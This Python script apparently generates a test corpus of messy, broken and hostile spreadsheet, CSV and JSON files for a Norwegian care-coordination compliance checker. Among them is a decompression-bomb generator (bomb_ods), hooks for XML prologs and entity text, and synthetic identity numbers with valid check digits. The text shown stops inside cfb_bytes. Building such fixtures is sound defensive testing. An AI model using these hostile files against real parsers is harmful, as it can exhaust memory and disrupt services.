#!/usr/bin/env python
"""Write the loader corpus: small messy, broken and hostile snapshots, one outcome each.

    python tests/corpus/make_corpus.py           # (re)write every corpus file
    python tests/corpus/make_corpus.py --check   # exit 1 when a committed file differs

Every file under ``tests/corpus/`` (except this script, ``expected.yaml``,
``time_hostile.py`` and the files in ``KEPT_FILES``, written once by LibreOffice) is
written here, text and binary alike, so the corpus is reproducible:
zip members carry a fixed timestamp and are written in a fixed order, and nothing
random or time-dependent goes in (the deflate stream is zlib's, stable across the
versions in use). ``expected.yaml`` gives each file's exact outcome and
``tests/ingest/test_corpus.py`` checks it through ``ke-rules check FILE --as-of 2026-11-23``.

Most valid files render one small snapshot, ``BASE``, in a different spelling
(encodings, delimiters, bokmål names, Excel date cells, formulas, phantom used
ranges ...): messy but valid input must read the same, so they all give BASE's five
findings. The xlsx files are written from scratch (not with openpyxl) so that formula
cells can carry a cached result, and so that dimensions, merges and far cells are
exactly what a test needs. Old-format and encrypted workbooks are OLE2 compound files,
written by a small CFB writer below (olefile reads them back).

The identity numbers planted here are made-up numbers with valid check digits (born
1 January 1990 and 15 May 1985, and a D-number); they must never appear in a report.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
STAMP = (2026, 11, 23, 8, 0, 0)
OWN_FILES = {"make_corpus.py", "expected.yaml", "time_hostile.py"}
# corpus files written once by another program and kept as written (not by this script; check() leaves them be)
KEPT_FILES = {"ods_libreoffice_demo.ods"}  # fixtures/demo.xlsx converted by LibreOffice 7.4 (soffice --convert-to ods)

# --------------------------------------------------------------------------------------
# planted identity numbers
# --------------------------------------------------------------------------------------

_K1 = (3, 7, 6, 1, 8, 9, 4, 5, 2)
_K2 = (5, 4, 3, 2, 7, 6, 5, 4, 3, 2)


def identity_number(ddmmyy: str, first_individual: int = 100) -> str:
    """The first valid 11-digit number for a date, from an individual number on (classic check digits)."""
    for individual in range(first_individual, 1000):
        nine = [int(c) for c in f"{ddmmyy}{individual:03d}"]
        k1 = (11 - sum(w * d for w, d in zip(_K1, nine, strict=True)) % 11) % 11
        if k1 == 10:
            continue
        ten = [*nine, k1]
        k2 = (11 - sum(w * d for w, d in zip(_K2, ten, strict=True)) % 11) % 11
        if k2 == 10:
            continue
        return "".join(map(str, [*ten, k2]))
    raise ValueError(ddmmyy)


FNR_A = identity_number("010190")  # born 1 January 1990
FNR_B = identity_number("150585", 400)  # born 15 May 1985
DNR = identity_number("410190", 200)  # a D-number (day + 40)
FNR_LEADING_ZERO = identity_number("050590", 300)  # born 5 May 1990: Excel drops the leading 0
FNR_HYPHEN = identity_number("230875", 500)  # written DDMMYY-NNNNN (issue 10)
FNR_DOT = identity_number("121203", 600)  # written DDMMYY.NNNNN (issue 10)
FNR_LATE = identity_number("070788", 700)  # at character 190 of a long value (issue 10)
PLANTED = [FNR_A, FNR_B, DNR, FNR_LEADING_ZERO, FNR_HYPHEN, FNR_DOT, FNR_LATE]

# --------------------------------------------------------------------------------------
# BASE: one small snapshot with five designed findings at D = 2026-11-23 (nasjonal)
# --------------------------------------------------------------------------------------
#   KE-CONSENT:S-1           S-1 has an active IP and no consent
#   KE-CHILD-RELATIVE:S-1    S-1 has had a coordinator since 2024 and no mapping (a minor daughter: high)
#   KE-REFERRAL-MISSING:S-1  S-1 has two long-running health services and no referral
#   KE-INVITE-LEAD:M-1       M-1 (2026-09-10) was invited on 2026-09-01: 9 days < 14
#   KE-MEET-FREQ:G-1         G-1 (since 2025-08-01) held one meeting in the window, two required
# S-3 is closed before D (out of scope), so none of its rows give findings.

BASE: dict[str, list[dict[str, Any]]] = {
    "cases": [
        {"case_id": "S-1", "municipality": "1112", "birth_date": "1980-05-01", "opened_on": "2024-01-10",
         "closed_on": None, "wants_coordinator": True, "long_term_need": True, "ip_started_on": "2024-02-01",
         "relatives_mapped_on": None},
        {"case_id": "S-2", "municipality": "1112", "birth_date": "2015-03-03", "opened_on": "2025-06-01",
         "closed_on": None, "wants_coordinator": True, "long_term_need": False, "ip_started_on": "2025-07-01",
         "relatives_mapped_on": "2025-07-01"},
        {"case_id": "S-3", "municipality": "1112", "birth_date": "1990-01-01", "opened_on": "2023-01-01",
         "closed_on": "2024-01-01", "wants_coordinator": False, "long_term_need": False, "ip_started_on": None,
         "relatives_mapped_on": None},
    ],
    "services": [
        {"case_id": "S-1", "service": "hjemmesykepleie", "category": None, "provider": "Hjemmetjenesten sør",
         "start_date": "2024-01-01", "end_date": None},
        {"case_id": "S-1", "service": "fysioterapi", "category": "helse", "provider": "Fysioterapitjenesten",
         "start_date": "2024-02-01", "end_date": None},
        {"case_id": "S-2", "service": "avlastning", "category": "omsorg", "provider": "Åsen avlastning",
         "start_date": "2025-07-01", "end_date": None},
    ],
    "coordinators": [
        {"coordinator_id": "K-1", "name": "Ingrid Testdal", "unit": "Hjemmetjenesten", "trained_on": "2020-03-18",
         "agreed_max_cases": None},
        {"coordinator_id": "K-2", "name": "Per Demoberg", "unit": "Barne- og familietjenesten",
         "trained_on": None, "agreed_max_cases": 3},
    ],
    "assignments": [
        {"case_id": "S-1", "coordinator_id": "K-1", "role": "koordinator", "start_date": "2024-01-15",
         "end_date": None},
        {"case_id": "S-2", "coordinator_id": "K-2", "role": "koordinator", "start_date": "2025-06-10",
         "end_date": None},
    ],
    "groups": [
        {"group_id": "G-1", "case_id": "S-2", "established_on": "2025-08-01", "dissolved_on": None},
    ],
    "meetings": [
        {"meeting_id": "M-1", "case_id": "S-2", "kind": "ansvarsgruppe", "meeting_date": "2026-09-10",
         "status": "held", "invitation_sent_on": "2026-09-01", "invitation_has_subject": True,
         "invitation_has_participants": True, "invitation_has_time_place": True, "invitation_has_agenda": True,
         "minutes_sent_on": "2026-09-15", "next_meeting_on": "2026-12-10"},
    ],
    "consents": [
        {"case_id": "S-2", "scope": "alle", "given_on": "2025-06-15", "withdrawn_on": None, "form": "skriftlig"},
    ],
    "relatives": [
        {"case_id": "S-1", "relation": "barn", "birth_date": "2012-04-04"},
    ],
    "referrals": [
        {"case_id": "S-2", "received_on": "2025-05-20", "source": "fastlege"},
    ],
}

NB_TABLE = {"cases": "saker", "services": "tjenester", "coordinators": "koordinatorer",
            "assignments": "oppnevninger", "groups": "ansvarsgrupper", "meetings": "møter",
            "consents": "samtykker", "relatives": "pårørende", "referrals": "meldinger"}
NB_COLUMN = {"case_id": "sak_id", "birth_date": "fødselsdato", "opened_on": "åpnet", "closed_on": "avsluttet",
             "meeting_id": "møte_id", "meeting_date": "møtedato", "municipality": "kommunenummer"}
DATE_COLUMNS = {"birth_date", "opened_on", "closed_on", "ip_started_on", "relatives_mapped_on", "start_date",
                "end_date", "trained_on", "established_on", "dissolved_on", "meeting_date", "invitation_sent_on",
                "minutes_sent_on", "next_meeting_on", "given_on", "withdrawn_on", "received_on"}


def columns_of(table: str) -> list[str]:
    return list(BASE[table][0])


def text_of(value: Any, *, yes: str = "ja", no: str = "nei", date_style: str = "iso") -> str:
    """A BASE value as the text a CSV would hold."""
    if value is None:
        return ""
    if value is True:
        return yes
    if value is False:
        return no
    if isinstance(value, str) and date_style == "no" and len(value) == 10 and value[4] == "-":
        y, m, d = value.split("-")
        return f"{d}.{m}.{y}"
    return str(value)


def base_rows(table: str, *, nb: bool = False, **style: Any) -> list[list[str]]:
    cols = columns_of(table)
    header = [NB_COLUMN.get(c, c) if nb else c for c in cols]
    return [header] + [[text_of(r[c], **style) for c in cols] for r in BASE[table]]


def as_date(text: str | None) -> dt.date | None:
    return dt.date.fromisoformat(text) if text else None


# --------------------------------------------------------------------------------------
# csv and json
# --------------------------------------------------------------------------------------


def csv_bytes(rows: list[list[str]], *, delimiter: str = ",", encoding: str = "utf-8", bom: bool = False) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return (b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode(encoding)


def json_bytes(doc: Any) -> bytes:
    return json.dumps(doc, ensure_ascii=False, indent=1).encode("utf-8")


def base_csv_folder(folder: str, *, nb: bool = False, **kw: Any) -> dict[str, bytes]:
    out = {}
    for table in BASE:
        stem = NB_TABLE[table] if nb else table
        out[f"{folder}/{stem}.csv"] = csv_bytes(base_rows(table, nb=nb), **kw)
    return out


# --------------------------------------------------------------------------------------
# xlsx, written from parts
# --------------------------------------------------------------------------------------

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
EPOCH = dt.date(1899, 12, 30)
STYLE_DATE, STYLE_DATETIME = 1, 2


@dataclass
class Inline:
    """A text cell written inline (t="inlineStr") rather than as a shared string."""

    text: str


@dataclass
class F:
    """A formula cell; ``cached`` is its stored result (None: no result stored)."""

    formula: str
    cached: Any = None
    kind: str | None = None  # t attribute: str, b, e; None for a number
    style: int | None = None


@dataclass
class Raw:
    """A cell written verbatim (``{ref}`` is replaced by its reference)."""

    xml: str


@dataclass
class Sheet:
    name: str
    rows: list[list[Any]]
    merges: list[str] = field(default_factory=list)
    dimension: str | None = None  # the recorded <dimension ref>; None: computed
    far: list[tuple[str, Any]] = field(default_factory=list)  # (cell reference, cell) after the rows
    prolog: str = ""  # written between the XML declaration and <worksheet>


def col_letters(n: int) -> str:
    out = ""
    while n:
        n, rem = divmod(n - 1, 26)
        out = chr(65 + rem) + out
    return out


def serial(value: dt.date) -> str:
    if isinstance(value, dt.datetime):
        delta = value - dt.datetime(1899, 12, 30)
        return repr(delta.days + delta.seconds / 86400)
    return str((value - EPOCH).days)


class SharedStrings:
    def __init__(self) -> None:
        self.index: dict[str, int] = {}
        self.count = 0

    def add(self, text: str) -> int:
        self.count += 1
        return self.index.setdefault(text, len(self.index))

    def xml(self, prolog: str = "", entity_text: str | None = None) -> str:
        items = "".join(f'<si><t xml:space="preserve">{escape(t)}</t></si>' for t in self.index)
        if entity_text is not None:
            items += f"<si><t>{entity_text}</t></si>"
        n = len(self.index) + (entity_text is not None)
        return f'{XML_HEAD}{prolog}<sst xmlns="{MAIN_NS}" count="{self.count}" uniqueCount="{n}">{items}</sst>'


def cell_xml(ref: str, value: Any, sst: SharedStrings | None) -> str:
    if value is None:
        return ""
    if isinstance(value, Raw):
        return value.xml.replace("{ref}", ref)
    if isinstance(value, Inline):
        return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value.text)}</t></is></c>'
    if isinstance(value, F):
        t = f' t="{value.kind}"' if value.kind else ""
        s = f' s="{value.style}"' if value.style is not None else ""
        cached = "" if value.cached is None else escape(str(value.cached))
        return f'<c r="{ref}"{s}{t}><f>{escape(value.formula)}</f><v>{cached}</v></c>'
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, dt.datetime):
        return f'<c r="{ref}" s="{STYLE_DATETIME}"><v>{serial(value)}</v></c>'
    if isinstance(value, dt.date):
        return f'<c r="{ref}" s="{STYLE_DATE}"><v>{serial(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if sst is None:
        return cell_xml(ref, Inline(str(value)), None)
    return f'<c r="{ref}" t="s"><v>{sst.add(str(value))}</v></c>'


def sheet_xml(sheet: Sheet, sst: SharedStrings | None) -> str:
    rows = []
    width = max((len(r) for r in sheet.rows), default=1)
    for i, row in enumerate(sheet.rows, start=1):
        cells = "".join(cell_xml(f"{col_letters(j)}{i}", v, sst) for j, v in enumerate(row, start=1))
        if cells:
            rows.append(f'<row r="{i}">{cells}</row>')
    for ref, value in sheet.far:
        row = "".join(ch for ch in ref if ch.isdigit())
        rows.append(f'<row r="{row}">{cell_xml(ref, value, sst)}</row>')
    dimension = sheet.dimension or f"A1:{col_letters(width)}{max(len(sheet.rows), 1)}"
    merges = ""
    if sheet.merges:
        merges = f'<mergeCells count="{len(sheet.merges)}">' + "".join(
            f'<mergeCell ref="{m}"/>' for m in sheet.merges) + "</mergeCells>"
    return (f'{XML_HEAD}{sheet.prolog}<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><dimension ref="{dimension}"/>'
            f'<sheetData>{"".join(rows)}</sheetData>{merges}</worksheet>')


STYLES = (f'{XML_HEAD}<styleSheet xmlns="{MAIN_NS}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/>'
          '</font></fonts><fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
          '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf numFmtId="0"/></cellStyleXfs>'
          '<cellXfs count="3"><xf numFmtId="0" xfId="0"/><xf numFmtId="14" xfId="0" applyNumberFormat="1"/>'
          '<xf numFmtId="22" xfId="0" applyNumberFormat="1"/></cellXfs></styleSheet>')


def zip_bytes(members: list[tuple[str, bytes]], *, level: int = 6) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, body in members:
            info = zipfile.ZipInfo(name, date_time=STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            z.writestr(info, body, compresslevel=level)
    return buf.getvalue()


def xlsx_parts(sheets: list[Sheet], *, shared: bool = True, sst_prolog: str = "",
               sst_entity: str | None = None) -> list[tuple[str, bytes]]:
    sst = SharedStrings() if shared else None
    sheet_parts = [(f"xl/worksheets/sheet{i}.xml", sheet_xml(s, sst).encode("utf-8"))
                   for i, s in enumerate(sheets, start=1)]
    overrides = "".join(
        f'<Override PartName="/{p}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
        f'worksheet+xml"/>' for p, _ in sheet_parts)
    types = (f'{XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/>'
             '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.sheet.main+xml"/>'
             '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.'
             'spreadsheetml.styles+xml"/>'
             + ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                'officedocument.spreadsheetml.sharedStrings+xml"/>' if sst else "")
             + overrides + "</Types>")
    root_rels = (f'{XML_HEAD}<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
                 f'Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    sheet_list = "".join(f'<sheet name="{escape(s.name)}" sheetId="{i}" r:id="rId{i}"/>'
                         for i, s in enumerate(sheets, start=1))
    workbook = f'{XML_HEAD}<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>{sheet_list}</sheets></workbook>'
    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                   for i in range(1, len(sheets) + 1))
    n = len(sheets)
    rels += f'<Relationship Id="rId{n + 1}" Type="{REL_NS}/styles" Target="styles.xml"/>'
    if sst:
        rels += f'<Relationship Id="rId{n + 2}" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    workbook_rels = f'{XML_HEAD}<Relationships xmlns="{PKG_REL_NS}">{rels}</Relationships>'
    parts = [
        ("[Content_Types].xml", types.encode()),
        ("_rels/.rels", root_rels.encode()),
        ("xl/workbook.xml", workbook.encode()),
        ("xl/_rels/workbook.xml.rels", workbook_rels.encode()),
        ("xl/styles.xml", STYLES.encode()),
        *sheet_parts,
    ]
    if sst:
        parts.append(("xl/sharedStrings.xml", sst.xml(sst_prolog, sst_entity).encode("utf-8")))
    return parts


def xlsx_bytes(sheets: list[Sheet], **kw: Any) -> bytes:
    return zip_bytes(xlsx_parts(sheets, **kw))


def base_sheet(table: str, *, nb: bool = False, dates: str = "cells", **kw: Any) -> Sheet:
    """BASE's table as a sheet: dates as Excel date cells, booleans as boolean cells."""
    cols = columns_of(table)
    header = [NB_COLUMN.get(c, c) if nb else c for c in cols]
    rows: list[list[Any]] = [header]
    for r in BASE[table]:
        row = []
        for c in cols:
            v = r[c]
            if c in DATE_COLUMNS and v is not None and dates == "cells":
                v = as_date(v)
            row.append(v)
        rows.append(row)
    return Sheet(NB_TABLE[table] if nb else table, rows, **kw)


def base_sheets(**kw: Any) -> list[Sheet]:
    return [base_sheet(t, **kw) for t in BASE]


# --------------------------------------------------------------------------------------
# ods (OpenDocument, LibreOffice's own format), written as LibreOffice writes content.xml
# --------------------------------------------------------------------------------------

ODS_MIME = b"application/vnd.oasis.opendocument.spreadsheet"
ODS_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:number="urn:oasis:names:tc:opendocument:xmlns:datastyle:1.0" '
          'xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
          'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"')
ODS_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
ODS_COLUMNS, ODS_ROWS = 16384, 1048576  # LibreOffice's sheet size: every sheet ends in runs of empty cells


def ods_text(text: str) -> str:
    """A cell's text as LibreOffice writes it: a run of spaces, or a space that starts a line, as <text:s/>."""
    def spaces(line: str) -> str:
        out, i = [], 0
        while i < len(line):
            if line[i] != " ":
                out.append(escape(line[i]))
                i += 1
                continue
            j = i
            while j < len(line) and line[j] == " ":
                j += 1
            n = j - i
            if i > 0 and n == 1:
                out.append(" ")
            else:
                lead = 0 if i == 0 else 1
                out.append(" " * lead + (f'<text:s text:c="{n - lead}"/>' if n - lead > 1 else "<text:s/>"))
            i = j
        return "".join(out)
    return "".join(f"<text:p>{spaces(line)}</text:p>" for line in text.split("\n"))


def ods_cell(value: Any, repeat: int = 1, span: tuple[int, int] | None = None) -> str:
    """One <table:table-cell>, typed as LibreOffice types it (``span``: columns, rows of a merge)."""
    attrs = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    if span:
        attrs += f' table:number-columns-spanned="{span[0]}" table:number-rows-spanned="{span[1]}"'
    if value is None:
        return f"<table:table-cell{attrs}/>"
    if isinstance(value, Raw):
        return value.xml
    if isinstance(value, F):
        formula = f' table:formula="of:={escape(value.formula, {chr(34): "&quot;"})}"'
        if value.cached is None:
            return f"<table:table-cell{formula}{attrs}/>"
        if value.kind == "e":
            return (f'<table:table-cell{formula}{attrs} office:value-type="string" office:string-value="" '
                    f'calcext:value-type="error">{ods_text(str(value.cached))}</table:table-cell>')
        if value.kind == "str":
            return (f'<table:table-cell{formula}{attrs} office:value-type="string" calcext:value-type="string">'
                    f"{ods_text(str(value.cached))}</table:table-cell>")
        if value.kind == "b":
            cached: Any = bool(int(value.cached))
        elif value.style in (STYLE_DATE, STYLE_DATETIME):
            cached = EPOCH + dt.timedelta(days=int(float(value.cached)))
        else:
            cached = value.cached
        return ods_cell(cached, repeat).replace("<table:table-cell", f"<table:table-cell{formula}", 1)
    if isinstance(value, Inline):
        value = value.text
    if isinstance(value, bool):
        word = "true" if value else "false"
        return (f'<table:table-cell{attrs} office:value-type="boolean" office:boolean-value="{word}" '
                f'calcext:value-type="boolean"><text:p>{word.upper()}</text:p></table:table-cell>')
    if isinstance(value, dt.date):
        iso = value.isoformat() if not isinstance(value, dt.datetime) else value.strftime("%Y-%m-%dT%H:%M:%S")
        return (f'<table:table-cell table:style-name="ce1"{attrs} office:value-type="date" '
                f'office:date-value="{iso}" calcext:value-type="date"><text:p>{value:%d.%m.%Y}</text:p>'
                "</table:table-cell>")
    if isinstance(value, int | float):
        return (f'<table:table-cell{attrs} office:value-type="float" office:value="{value!r}" '
                f'calcext:value-type="float"><text:p>{value!r}</text:p></table:table-cell>')
    return (f'<table:table-cell{attrs} office:value-type="string" calcext:value-type="string">'
            f"{ods_text(str(value))}</table:table-cell>")


def _ref_cell(ref: str) -> tuple[int, int]:
    """(row, column), 1-based, of a cell reference such as AB12."""
    letters = "".join(ch for ch in ref if ch.isalpha())
    col = 0
    for ch in letters:
        col = col * 26 + ord(ch.upper()) - 64
    return int(ref[len(letters):]), col


def ods_table(sheet: Sheet) -> str:
    """One sheet as LibreOffice writes it: equal neighbouring cells and rows as runs, the rest of the
    sheet's 16384 columns and 1048576 rows as runs of empty cells; a merge's top-left cell spans and the
    cells under it are covered; ``sheet.far`` cells after empty runs."""
    spans: dict[tuple[int, int], tuple[int, int]] = {}
    covered: set[tuple[int, int]] = set()
    for m in sheet.merges:
        (top, left), (bottom, right) = _ref_cell(m.split(":")[0]), _ref_cell(m.split(":")[1])
        spans[(top, left)] = (right - left + 1, bottom - top + 1)
        covered |= {(r, c) for r in range(top, bottom + 1) for c in range(left, right + 1)} - {(top, left)}
    grid = [list(r) for r in sheet.rows]
    for ref, value in sheet.far:
        row, col = _ref_cell(ref)
        grid += [[] for _ in range(row - len(grid))]
        grid[row - 1] += [None] * (col - len(grid[row - 1]))
        grid[row - 1][col - 1] = value
    rows: list[str] = []
    for i, row in enumerate(grid, start=1):
        cells: list[str] = []
        used = 0
        j = 0
        while j < len(row):
            if (i, j + 1) in covered:
                cells.append("<table:covered-table-cell/>")
                j += 1
                used += 1
                continue
            n = 1
            while (j + n < len(row) and row[j + n] == row[j] and type(row[j + n]) is type(row[j])
                   and (i, j + 1) not in spans and (i, j + n + 1) not in spans and (i, j + n + 1) not in covered
                   and not isinstance(row[j], Raw | F)):
                n += 1
            cells.append(ods_cell(row[j], n, spans.get((i, j + 1))))
            j += n
            used += n
        if used < ODS_COLUMNS:
            cells.append(ods_cell(None, ODS_COLUMNS - used))
        rows.append("".join(cells))
    out: list[str] = []
    k = 0
    while k < len(rows):
        n = 1
        while k + n < len(rows) and rows[k + n] == rows[k]:
            n += 1
        repeat = f' table:number-rows-repeated="{n}"' if n > 1 else ""
        out.append(f'<table:table-row table:style-name="ro1"{repeat}>{rows[k]}</table:table-row>')
        k += n
    if len(rows) < ODS_ROWS:
        out.append(f'<table:table-row table:style-name="ro1" table:number-rows-repeated="{ODS_ROWS - len(rows)}">'
                   f'{ods_cell(None, ODS_COLUMNS)}</table:table-row>')
    return (f'<table:table table:name="{escape(sheet.name, {chr(34): "&quot;"})}" table:style-name="ta1">'
            f'<table:table-column table:style-name="co1" table:number-columns-repeated="{ODS_COLUMNS}" '
            f'table:default-cell-style-name="Default"/>{"".join(out)}</table:table>')


def ods_content(sheets: list[Sheet], prolog: str = "") -> str:
    styles = ('<office:automatic-styles><number:date-style style:name="N37"><number:day number:style="long"/>'
              '<number:text>.</number:text><number:month number:style="long"/><number:text>.</number:text>'
              '<number:year number:style="long"/></number:date-style><style:style style:name="ce1" '
              'style:family="table-cell" style:parent-style-name="Default" style:data-style-name="N37"/>'
              "</office:automatic-styles>")
    return (f'{ODS_HEAD}{prolog}<office:document-content {ODS_NS} office:version="1.3">{styles}<office:body>'
            f'<office:spreadsheet><table:calculation-settings table:automatic-find-labels="false"/>'
            f'{"".join(ods_table(s) for s in sheets)}<table:named-expressions/></office:spreadsheet>'
            "</office:body></office:document-content>")


def ods_manifest(encrypted: str = "") -> str:
    return (f'{ODS_HEAD}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
            'manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:version="1.3" '
            f'manifest:media-type="{ODS_MIME.decode()}"/><manifest:file-entry manifest:full-path="styles.xml" '
            'manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="content.xml" '
            f'manifest:media-type="text/xml"{">" + encrypted + "</manifest:file-entry>" if encrypted else "/>"}'
            '<manifest:file-entry manifest:full-path="meta.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>")


def ods_parts(sheets: list[Sheet], *, prolog: str = "") -> list[tuple[str, bytes]]:
    styles = (f'{ODS_HEAD}<office:document-styles {ODS_NS} office:version="1.3"><office:styles>'
              '<style:style style:name="Default" style:family="table-cell"/></office:styles>'
              "</office:document-styles>")
    meta = (f'{ODS_HEAD}<office:document-meta xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" office:version="1.3"><office:meta>'
            "<meta:generator>make_corpus.py</meta:generator></office:meta></office:document-meta>")
    return [("content.xml", ods_content(sheets, prolog).encode("utf-8")), ("styles.xml", styles.encode()),
            ("meta.xml", meta.encode()), ("META-INF/manifest.xml", ods_manifest().encode())]


def ods_zip(parts: list[tuple[str, bytes]], *, level: int = 6, mime: bytes = ODS_MIME) -> bytes:
    """An .ods archive: the media type first, stored (so the bytes tell what the file is), then the parts."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("mimetype", date_time=STAMP)
        info.compress_type = zipfile.ZIP_STORED
        z.writestr(info, mime)
        for name, body in parts:
            info = zipfile.ZipInfo(name, date_time=STAMP)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            z.writestr(info, body, compresslevel=level)
    return buf.getvalue()


def ods_bytes_of(sheets: list[Sheet], **kw: Any) -> bytes:
    """A small .ods spreadsheet of ``sheets`` (typed cells: text, numbers, dates, booleans, formulas)."""
    return ods_zip(ods_parts(sheets, **kw))


def encrypted_ods_bytes() -> bytes:
    """An .ods saved with a password: the zip is readable, content.xml is ciphertext listed in the manifest."""
    encryption = ('<manifest:encryption-data manifest:checksum-type="urn:oasis:names:tc:opendocument:xmlns:'
                  'manifest:1.0#sha256-1k" manifest:checksum="AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=">'
                  '<manifest:algorithm manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" '
                  'manifest:initialisation-vector="AAAAAAAAAAAAAAAAAAAAAA=="/><manifest:start-key-generation '
                  'manifest:start-key-generation-name="http://www.w3.org/2000/09/xmldsig#sha256" '
                  'manifest:key-size="32"/><manifest:key-derivation manifest:key-derivation-name="PBKDF2" '
                  'manifest:key-size="32" manifest:iteration-count="100000" '
                  'manifest:salt="AAAAAAAAAAAAAAAAAAAAAA=="/></manifest:encryption-data>')
    parts = [(n, _pseudo_random(4000) if n == "content.xml" else
              ods_manifest(encryption).encode() if n == "META-INF/manifest.xml" else b)
             for n, b in ods_parts(base_sheets())]
    return ods_zip(parts)


def bomb_ods(megabytes: int) -> bytes:
    """A spreadsheet whose content.xml expands to ``megabytes`` MB (a valid sheet padded with spaces)."""
    parts = ods_parts([Sheet("cases", [["case_id"], ["S-1"]])])
    content = parts[0][1].replace(b"<office:body>", b"<office:body>" + b" " * (megabytes * 1_000_000))
    return ods_zip([("content.xml", content), *parts[1:]], level=9)


# --------------------------------------------------------------------------------------
# OLE2 compound files (old .xls, encrypted OOXML)
# --------------------------------------------------------------------------------------

FREESECT, ENDOFCHAIN, FATSECT, NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb_bytes(streams: list[tuple[str, bytes]]) -> bytes:
    """A version-3 compound file (512-byte sectors) holding ``streams`` in the root storage.

    Streams are padded to 4096 bytes, the mini-stream cutoff, so every stream lives in
    ordinary sectors and no mini FAT is needed. One FAT sector (up to 128 sectors).
    """
    streams = [(n, body + b"\0" * max(0, 4096 - len(body))) for n, body in streams]
    sector = 512
    dir_entries = 1 + len(streams)
    dir_sectors = -(-dir_entries * 128 // sector)
    data_sectors = [-(-len(body) // sector) for _, body in streams]
    total = 1 + dir_sectors + sum(data_sectors)
    assert total <= 128
    fat = [FREESECT] * 128
    fat[0] = FATSECT
    for i in range(dir_sectors):
        fat[1 + i] = 2 + i if i + 1 < dir_sectors else ENDOFCHAIN
    starts = []
    nxt = 1 + dir_sectors
    for count in data_sectors:
        starts.append(nxt)
        for k in range(count):
            fat[nxt + k] = nxt + k + 1 if k + 1 < count else ENDOFCHAIN
        nxt += count

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le")
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
                + struct.pack("<III", NOSTREAM, right, child) + b"\0" * 16 + struct.pack("<I", 0)
                + b"\0" * 16 + struct.pack("<IQ", start, size))

    entries = [entry("Root Entry", 5, 1 if streams else NOSTREAM, NOSTREAM, ENDOFCHAIN, 0)]
    for i, ((name, body), start) in enumerate(zip(streams, starts, strict=True), start=1):
        entries.append(entry(name, 2, NOSTREAM, i + 1 if i < len(streams) else NOSTREAM, start, len(body)))
    directory = b"".join(entries).ljust(dir_sectors * sector, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
              + struct.pack("<I", 0) + struct.pack("<I", FREESECT) * 108)
    assert len(header) == 512
    body = b"".join(b.ljust(n * sector, b"\0") for (_, b), n in zip(streams, data_sectors, strict=True))
